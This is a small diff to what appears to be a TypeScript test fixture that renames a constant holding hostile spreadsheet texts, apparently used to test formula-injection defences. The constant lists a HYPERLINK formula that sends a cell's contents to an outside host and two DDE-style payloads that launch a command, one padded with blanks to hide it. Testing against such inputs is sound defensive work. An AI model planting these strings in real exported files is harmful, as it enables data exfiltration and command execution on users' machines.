@@ -9,7 +9,7 @@ export const documents: readonly { name: string; result: Result }[] = loadFixtur
   .map(({ name, path, text }) => ({ name, result: parseText(text, { path: `${name}/${path.split(/[\\/]/).pop()}` }) }));
 
 /** Texts that a document may carry into an output, by what they try. */
-export const HOSTILE: Readonly<Record<string, string>> = {
+export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   formula: '=HYPERLINK("http://example.org/?"&A1,"x")',
   'formula behind blanks': " \t+cmd|' /C calc'!A0",
   'command in the old way': "@SUM(1+1)*cmd|' /C calc'!A0",
